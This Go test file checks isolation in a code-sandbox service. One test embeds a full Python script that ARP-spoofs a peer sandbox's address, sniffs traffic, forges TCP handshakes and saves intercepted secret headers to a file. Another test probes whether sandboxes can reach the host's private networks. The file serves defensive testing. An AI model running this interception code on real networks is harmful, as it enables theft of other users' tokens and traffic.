package security

import (
	"bufio"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	goruntime "runtime"
	"strings"
	"testing"
	"time"

	"github.com/vishvananda/netlink"
	"github.com/vishvananda/netns"

	"github.com/sbxdev/sbx/sdk"
	"github.com/sbxdev/sbx/tests/harness"
)

// victimServer is a web service in the victim's sandbox: it records the
// X-Secret header of every request it gets, as a code interpreter holds
// the X-Access-Token of each runCode.
const victimServer = `cat > /tmp/victim.py <<'EOF'
import http.server
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        with open("/tmp/seen", "a") as f:
            f.write(self.headers.get("X-Secret", "") + " " + self.client_address[0] + "\n")
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b"victim")
    def log_message(self, *a):
        pass
http.server.ThreadingHTTPServer(("0.0.0.0", 8000), H).serve_forever()
EOF`

// mitm runs as root in the attacker's sandbox. On a raw socket it claims
// the victim's address to the host (gratuitous ARP, and ARP replies sent
// straight to the gateway, whose MAC it learns by ARP or from its own
// neighbour table), sniffs eth0 in promiscuous mode, completes TCP
// handshakes addressed to the victim itself so the host sends the request,
// and writes every TCP payload addressed to the victim to a file. It ends
// by printing how far it got.
const mitm = `cat > /tmp/mitm.py <<'EOF'
import random, select, socket, struct, sys, time
victim, gw, out_path, seconds = sys.argv[1], sys.argv[2], sys.argv[3], float(sys.argv[4])
IF = "eth0"
try:
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
except PermissionError as e:
    print("no-raw-socket", e)
    sys.exit(0)
s.bind((IF, 0))
s.setsockopt(263, 1, struct.pack("iHH8s", socket.if_nametoindex(IF), 1, 0, b""))  # promiscuous
mine = bytes.fromhex(open("/sys/class/net/%s/address" % IF).read().strip().replace(":", ""))
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
import fcntl
own = fcntl.ioctl(u.fileno(), 0x8915, struct.pack("256s", IF.encode()))[20:24]
vip, gip, bc, zero = socket.inet_aton(victim), socket.inet_aton(gw), b"\xff" * 6, b"\0" * 6

def arp(op, dst, spa, tha, tpa):
    return dst + mine + b"\x08\x06" + struct.pack("!HHBBH", 1, 0x0800, 6, 4, op) + mine + spa + tha + tpa

def csum(b):
    if len(b) % 2:
        b += b"\0"
    t = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while t >> 16:
        t = (t & 0xFFFF) + (t >> 16)
    return ~t & 0xFFFF

def tcp(dst_mac, src, dst, sport, dport, seq, ack, flags):
    h = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, 5 << 4, flags, 65535, 0, 0)
    c = csum(src + dst + struct.pack("!BBH", 0, 6, len(h)) + h)
    h = h[:16] + struct.pack("!H", c) + h[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(h), random.randrange(65536), 0x4000, 64, 6, 0, src, dst)
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    return dst_mac + mine + b"\x08\x00" + ip + h

out = open(out_path, "ab", buffering=0)
gw_mac, claims, seen, end, next_claim = None, 0, 0, time.time() + seconds, 0
for line in open("/proc/net/arp").read().splitlines()[1:]:  # a static entry needs no ARP
    f = line.split()
    if f[0] == gw and f[3] != "00:00:00:00:00:00":
        gw_mac = bytes.fromhex(f[3].replace(":", ""))
while time.time() < end:
    if time.time() >= next_claim:
        s.send(arp(2, bc, vip, bc, vip))
        s.send(arp(1, bc, vip, zero, vip))
        if gw_mac:
            s.send(arp(2, gw_mac, vip, gw_mac, gip))
        else:
            s.send(arp(1, bc, own, zero, gip))
        claims += 1
        next_claim = time.time() + 0.1
    if not select.select([s], [], [], 0.05)[0]:
        continue
    f, addr = s.recvfrom(65535)
    if addr[2] == 4:  # our own outgoing frames
        continue
    kind = f[12:14]
    if kind == b"\x08\x06" and f[20:22] == b"\0\2" and f[28:32] == gip:
        gw_mac = f[22:28]
    if kind != b"\x08\x00":
        continue
    ip = f[14:]
    if ip[9] != 6 or ip[16:20] != vip:
        continue
    seen += 1
    ihl, total = (ip[0] & 15) * 4, struct.unpack("!H", ip[2:4])[0]
    seg = ip[ihl:total]
    sport, dport, seq = struct.unpack("!HHI", seg[:8])
    flags, payload = seg[13], seg[(seg[12] >> 4) * 4:]
    if payload:
        out.write(payload)
    if flags & 0x02 and not flags & 0x10:
        s.send(tcp(f[6:12], vip, ip[12:16], dport, sport, 1000, seq + 1, 0x12))
    elif payload:
        s.send(tcp(f[6:12], vip, ip[12:16], dport, sport, 1001, seq + len(payload), 0x10))
print("armed" if gw_mac else "no-gateway-mac", "claims=%d" % claims, "victim-packets=%d" % seen)
EOF`

// sandboxIP returns the IPv4 address of eth0 in a sandbox.
func sandboxIP(t *testing.T, sb *sdk.Sandbox) string {
	t.Helper()
	out := mustSh(t, sb, "root", "ip -4 -o addr show dev eth0 | awk '{print $4}' | cut -d/ -f1 | head -1")
	ip := strings.TrimSpace(out)
	if _, err := netip.ParseAddr(ip); err != nil {
		t.Fatalf("sandbox %s has no IPv4 address on eth0: %q", sb.ID, out)
	}
	return ip
}

// sandboxGateway returns a sandbox's default gateway.
func sandboxGateway(t *testing.T, sb *sdk.Sandbox) string {
	t.Helper()
	out := mustSh(t, sb, "root", "ip -4 route show default | awk '{print $3}' | head -1")
	gw := strings.TrimSpace(out)
	if _, err := netip.ParseAddr(gw); err != nil {
		t.Fatalf("sandbox %s has no default gateway: %q", sb.ID, out)
	}
	return gw
}

// proxied sends GET / to a sandbox port through the server's proxy.
func proxied(s *harness.Server, id string, port int, header map[string]string) (int, string, error) {
	req, err := http.NewRequest(http.MethodGet, s.URL+"/", nil)
	if err != nil {
		return 0, "", err
	}
	req.Header.Set("E2b-Sandbox-Id", id)
	req.Header.Set("E2b-Sandbox-Port", fmt.Sprint(port))
	for k, v := range header {
		req.Header.Set(k, v)
	}
	c := &http.Client{Timeout: 5 * time.Second}
	resp, err := c.Do(req)
	if err != nil {
		return 0, "", err
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(b), nil
}

// TestPeerSandboxCannotCaptureProxiedTraffic: team B's sandbox, as root,
// tries to take over team A's address on the sandbox network and read the
// requests the proxy sends to A (here a secret header to A's web server on
// port 8000; the code interpreter's X-Access-Token travels the same way).
func TestPeerSandboxCannotCaptureProxiedTraffic(t *testing.T) {
	s := startServer(t)
	victim := create(t, s.Client(t), sdk.CreateOptions{})
	attacker := create(t, s.ClientWithKey(t, s.CreateTeam(t, "mallory")), sdk.CreateOptions{})

	mustSh(t, victim, "", victimServer)
	if _, err := victim.Commands.Start(opCtx(t), "python3 /tmp/victim.py", sdk.RunOptions{}); err != nil {
		t.Fatal(err)
	}
	deadline := time.Now().Add(30 * time.Second)
	for {
		code, body, err := proxied(s, victim.ID, 8000, nil)
		if err == nil && code == http.StatusOK && body == "victim" {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("victim's server on port 8000 never answered through the proxy: %d %q %v", code, body, err)
		}
		time.Sleep(100 * time.Millisecond)
	}

	vip, gw := sandboxIP(t, victim), sandboxGateway(t, attacker)
	mustSh(t, attacker, "root", mitm)
	attack, err := attacker.Commands.Start(opCtx(t), fmt.Sprintf("python3 /tmp/mitm.py %s %s /tmp/captured 8", vip, gw), sdk.RunOptions{User: "root"})
	if err != nil {
		t.Fatal(err)
	}
	time.Sleep(1500 * time.Millisecond) // the host's ARP cache takes an update after its 1 s locktime

	var secrets []string
	var failures []string
	for i := range 12 {
		secret := fmt.Sprintf("secret-%d-%s", i, randHex(t, 8))
		secrets = append(secrets, secret)
		code, body, err := proxied(s, victim.ID, 8000, map[string]string{"X-Secret": secret})
		if err != nil || code != http.StatusOK || body != "victim" {
			failures = append(failures, fmt.Sprintf("request %d: %d %q %v", i, code, body, err))
		}
		time.Sleep(300 * time.Millisecond)
	}
	res, err := attack.Wait(opCtx(t))
	if err != nil {
		t.Fatalf("attacker's script failed: %v", err)
	}
	report := strings.TrimSpace(res.Stdout)
	t.Logf("attacker: %s", report)
	captured := sh(t, attacker, "root", "cat /tmp/captured 2>/dev/null").Stdout
	for _, secret := range secrets {
		if strings.Contains(captured, secret) {
			t.Errorf("team B's sandbox captured a request the proxy sent to team A's sandbox (secret %s); captured:\n%.600s", secret, captured)
			break
		}
	}
	if !strings.HasPrefix(report, "armed") && !strings.HasPrefix(report, "no-raw-socket") {
		t.Errorf("the attack did not run as intended (%q): the test proves nothing", report)
	}
	if len(failures) > 0 {
		t.Errorf("team A did not get its traffic during the attack:\n%s", strings.Join(failures, "\n"))
	}
	seen := mustSh(t, victim, "", "cat /tmp/seen")
	for _, secret := range secrets {
		if !strings.Contains(seen, secret) {
			t.Errorf("team A's server never got request %s", secret)
		}
	}
	// The proxy reached A over the network (from the gateway), not through
	// A's agent (from 127.0.0.1): that path is the one under attack here.
	if !strings.Contains(seen, secrets[0]+" "+gw) {
		t.Errorf("the proxy did not send A's requests over the sandbox network (from %s); A saw:\n%s", gw, seen)
	}
}

// privateNet is a private network reachable from the host: a network
// namespace behind a routed veth pair, as a LAN or a cloud VPC would be.
// Nothing leaves this machine.
type privateNet struct {
	addr     netip.Addr // the server's address in the private range
	hostAddr netip.Addr // the host's end
	ns       netns.NsHandle
}

func newPrivateNet(t *testing.T) *privateNet {
	t.Helper()
	b := randHex(t, 2)
	var r int
	fmt.Sscanf(b, "%x", &r)
	p := &privateNet{
		hostAddr: netip.AddrFrom4([4]byte{172, 30, byte(r), 1}),
		addr:     netip.AddrFrom4([4]byte{172, 30, byte(r), 2}),
	}
	if routes, err := netlink.RouteGet(p.addr.AsSlice()); err == nil && len(routes) > 0 && routes[0].Gw == nil {
		t.Skipf("%s is already on a network of this host; pick another test range", p.addr)
	}
	done := make(chan error, 1)
	go func() {
		goruntime.LockOSThread()
		orig, err := netns.Get()
		if err != nil {
			done <- err
			return
		}
		defer orig.Close()
		p.ns, err = netns.New()
		if serr := netns.Set(orig); serr != nil {
			done <- serr // thread stays locked and is discarded
			return
		}
		goruntime.UnlockOSThread()
		done <- err
	}()
	if err := <-done; err != nil {
		t.Fatalf("create test namespace: %v", err)
	}
	t.Cleanup(func() { p.ns.Close() })
	name := "sbtp" + randHex(t, 4)
	veth := &netlink.Veth{LinkAttrs: netlink.LinkAttrs{Name: name}, PeerName: "eth0", PeerNamespace: netlink.NsFd(int(p.ns))}
	if err := netlink.LinkAdd(veth); err != nil {
		t.Fatalf("create veth %s: %v", name, err)
	}
	t.Cleanup(func() {
		if l, err := netlink.LinkByName(name); err == nil {
			_ = netlink.LinkDel(l)
		}
	})
	host, err := netlink.LinkByName(name)
	if err != nil {
		t.Fatal(err)
	}
	check(t, netlink.AddrAdd(host, &netlink.Addr{IPNet: &net.IPNet{IP: p.hostAddr.AsSlice(), Mask: net.CIDRMask(30, 32)}}))
	check(t, netlink.LinkSetUp(host))
	h, err := netlink.NewHandleAt(p.ns)
	if err != nil {
		t.Fatal(err)
	}
	defer h.Close()
	lo, _ := h.LinkByName("lo")
	check(t, h.LinkSetUp(lo))
	eth, err := h.LinkByName("eth0")
	if err != nil {
		t.Fatal(err)
	}
	check(t, h.AddrAdd(eth, &netlink.Addr{IPNet: &net.IPNet{IP: p.addr.AsSlice(), Mask: net.CIDRMask(30, 32)}}))
	check(t, h.LinkSetUp(eth))
	check(t, h.RouteAdd(&netlink.Route{LinkIndex: eth.Attrs().Index, Gw: p.hostAddr.AsSlice()}))
	return p
}

func (p *privateNet) prefix() netip.Prefix { return netip.PrefixFrom(p.addr, 30).Masked() }

// listen starts a "hello" TCP server on port (0 = any) in the namespace.
func (p *privateNet) listen(t *testing.T, port int) int {
	t.Helper()
	var ln net.Listener
	errc := make(chan error, 1)
	go func() {
		goruntime.LockOSThread()
		orig, err := netns.Get()
		if err != nil {
			errc <- err
			return
		}
		defer orig.Close()
		if err := netns.Set(p.ns); err != nil {
			errc <- err
			return
		}
		ln, err = net.Listen("tcp4", netip.AddrPortFrom(p.addr, uint16(port)).String())
		if serr := netns.Set(orig); serr != nil {
			errc <- serr
			return
		}
		goruntime.UnlockOSThread()
		errc <- err
	}()
	if err := <-errc; err != nil {
		t.Fatalf("listen in the private network: %v", err)
	}
	return serveHello(t, ln)
}

// serveHello answers every connection with "hello" and returns the port.
func serveHello(t *testing.T, ln net.Listener) int {
	t.Helper()
	t.Cleanup(func() { ln.Close() })
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			c.Write([]byte("hello"))
			c.Close()
		}
	}()
	return ln.Addr().(*net.TCPAddr).Port
}

func check(t *testing.T, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

// reaches tells whether the sandbox, as root, gets "hello" from ip:port.
func reaches(t *testing.T, sb *sdk.Sandbox, ip string, port int) bool {
	t.Helper()
	res := sh(t, sb, "root", fmt.Sprintf("timeout 3 bash -c 'exec 3<>/dev/tcp/%s/%d && head -c 5 <&3'", ip, port))
	return res.ExitCode == 0 && res.Stdout == "hello"
}

// hostReaches checks the test network from the host: a listener the host
// cannot reach proves nothing about sandboxes.
func hostReaches(t *testing.T, ip string, port int) error {
	t.Helper()
	c, err := net.DialTimeout("tcp4", net.JoinHostPort(ip, fmt.Sprint(port)), 3*time.Second)
	if err != nil {
		return fmt.Errorf("the host cannot reach %s:%d itself: %w", ip, port, err)
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(3 * time.Second))
	if b, _ := bufio.NewReader(c).ReadString('\n'); b != "hello" {
		return fmt.Errorf("%s:%d answered the host %q", ip, port, b)
	}
	return nil
}

// hostAddrs returns the host's IPv4 addresses outside loopback and outside
// the sandbox network.
func hostAddrs(t *testing.T, gw string) []string {
	t.Helper()
	ifAddrs, err := net.InterfaceAddrs()
	if err != nil {
		t.Fatal(err)
	}
	gwAddr := netip.MustParseAddr(gw)
	var out []string
	for _, a := range ifAddrs {
		n, ok := a.(*net.IPNet)
		if !ok || n.IP.To4() == nil || n.IP.IsLoopback() {
			continue
		}
		ip, _ := netip.AddrFromSlice(n.IP.To4())
		if netip.PrefixFrom(gwAddr, 16).Masked().Contains(ip) || strings.HasPrefix(ip.String(), "172.30.") {
			continue // sandbox networks and other tests' private networks
		}
		out = append(out, ip.String())
	}
	return out
}

// TestSandboxEgressStopsAtPrivateNetworksAndTheHost: code in a sandbox
// tries to reach a private network the host is on, the host's own
// addresses and the sandbox gateway. Only DNS to the host's resolvers and
// ranges the operator opened with --sandbox-allow-cidr get through.
func TestSandboxEgressStopsAtPrivateNetworksAndTheHost(t *testing.T) {
	pn := newPrivateNet(t)
	port := pn.listen(t, 0)
	dnsPort := pn.listen(t, 53) // "port 53 is open" must not mean "to anyone"
	check(t, hostReaches(t, pn.addr.String(), port))
	check(t, hostReaches(t, pn.addr.String(), dnsPort))
	hostLn, err := net.Listen("tcp4", "0.0.0.0:0")
	if err != nil {
		t.Fatal(err)
	}
	hostPort := serveHello(t, hostLn)

	t.Run("default", func(t *testing.T) {
		s := startServer(t)
		sb := create(t, s.Client(t), sdk.CreateOptions{})
		if reaches(t, sb, pn.addr.String(), port) {
			t.Errorf("sandbox reached %s:%d on a private network of the host", pn.addr, port)
		}
		if reaches(t, sb, pn.addr.String(), 53) {
			t.Errorf("sandbox reached %s:53, which is not one of the host's resolvers", pn.addr)
		}
		gw := sandboxGateway(t, sb)
		for _, ip := range append(hostAddrs(t, gw), gw) {
			if err := hostReaches(t, ip, hostPort); err != nil {
				t.Logf("skipping %s: %v", ip, err) // another test's network, gone meanwhile
				continue
			}
			if reaches(t, sb, ip, hostPort) {
				t.Errorf("sandbox reached the host's own address %s:%d", ip, hostPort)
			}
		}
		if res := sh(t, sb, "", "getent hosts deb.debian.org"); res.ExitCode != 0 {
			t.Errorf("DNS does not work in a sandbox: getent hosts deb.debian.org exited %d: %s%s", res.ExitCode, res.Stdout, res.Stderr)
		}
	})

	t.Run("allowed", func(t *testing.T) {
		s := startServer(t, "--sandbox-allow-cidr", pn.prefix().String())
		sb := create(t, s.Client(t), sdk.CreateOptions{})
		if !reaches(t, sb, pn.addr.String(), port) {
			t.Errorf("sandbox cannot reach %s:%d although --sandbox-allow-cidr %s", pn.addr, port, pn.prefix())
		}
		gw := sandboxGateway(t, sb)
		for _, ip := range append(hostAddrs(t, gw), gw) {
			if reaches(t, sb, ip, hostPort) {
				t.Errorf("sandbox reached the host's own address %s:%d outside the allowed range", ip, hostPort)
			}
		}
	})
}
